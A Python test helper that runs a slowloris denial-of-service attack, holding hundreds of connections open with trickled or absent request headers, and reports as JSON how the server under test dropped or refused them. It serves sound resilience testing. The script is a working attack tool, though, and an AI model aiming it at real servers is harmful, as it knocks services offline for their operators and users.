"""The slowloris attack, for tests/test_server.py: run as a script, in its own process (so
that it takes no time from the client measured beside it). From one source address it
keeps ``count`` connections open to the server: half trickle request headers a byte every
``interval`` seconds and never finish them, half send nothing. A connection the server
closes is opened again after ``interval``, as an attacker would. At the end it prints one
JSON object: what the server did to the connections."""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import time

HEADERS = b"POST /api/ask HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 10_000


def descriptors(wanted: int) -> int:
    """As many sockets as this process may open, up to ``wanted`` (raising the soft
    limit toward the hard one when it is lower)."""
    try:
        import resource
    except ImportError:
        return wanted
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = wanted + 32
    if soft != resource.RLIM_INFINITY and soft < need:
        soft = need if hard == resource.RLIM_INFINITY else min(need, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return min(wanted, soft - 32)


class Connection:
    def __init__(self, sock: socket.socket, trickle: bool):
        self.sock = sock
        self.trickle = trickle
        self.opened = time.monotonic()
        self.sent = 0
        self.next_send = self.opened
        self.reply = b""


def attack(target, source: str, count: int, seconds: float, interval: float) -> dict:
    selector = selectors.DefaultSelector()
    reopen: list[tuple[float, bool]] = []
    stats = {
        "sockets": count,
        "opened": 0,
        "connect_errors": 0,
        "refused_429": 0,
        "closed_408": 0,
        "closed_silently": 0,
        "admitted_lifetimes": [],
        "max_open": 0,
    }

    def open_one(trickle: bool) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            sock.bind((source, 0))
            sock.settimeout(5)
            sock.connect(target)
        except OSError:
            sock.close()
            stats["connect_errors"] += 1
            reopen.append((time.monotonic() + interval, trickle))
            return
        sock.setblocking(False)
        selector.register(sock, selectors.EVENT_READ, Connection(sock, trickle))
        stats["opened"] += 1

    def closed(conn: Connection, now: float) -> None:
        selector.unregister(conn.sock)
        conn.sock.close()
        if conn.reply.startswith(b"HTTP/1.1 429"):
            stats["refused_429"] += 1
        else:
            timed_out = conn.reply.startswith(b"HTTP/1.1 408")
            stats["closed_408" if timed_out else "closed_silently"] += 1
            stats["admitted_lifetimes"].append(round(now - conn.opened, 3))
        reopen.append((now + interval, conn.trickle))

    for i in range(count):
        open_one(trickle=i % 2 == 0)
    deadline = time.monotonic() + seconds
    while (now := time.monotonic()) < deadline:
        stats["max_open"] = max(stats["max_open"], len(selector.get_map()))
        for key, _ in selector.select(timeout=0.05):
            conn = key.data
            try:
                data = conn.sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                conn.reply += data
            else:
                closed(conn, time.monotonic())
        now = time.monotonic()
        for key in list(selector.get_map().values()):
            conn = key.data
            if conn.trickle and now >= conn.next_send:
                try:
                    conn.sock.send(HEADERS[conn.sent : conn.sent + 1])
                    conn.sent += 1
                except OSError:
                    pass  # the server closed it: the next select says so
                conn.next_send = now + interval
        due = [r for r in reopen if r[0] <= now]
        reopen[:] = [r for r in reopen if r[0] > now]
        for _, trickle in due:
            open_one(trickle)
    now = time.monotonic()
    # connections the server let in and has kept open until now
    stats["open_at_end"] = sorted(
        round(now - key.data.opened, 3)
        for key in selector.get_map().values()
        if not key.data.reply.startswith(b"HTTP/1.1 429")
    )
    for key in list(selector.get_map().values()):
        key.data.sock.close()
    return stats


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--count", type=int, default=500)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--interval", type=float, default=2)
    args = parser.parse_args()
    count = descriptors(args.count)
    stats = attack((args.host, args.port), args.source, count, args.seconds, args.interval)
    stats["wanted"] = args.count
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    main()
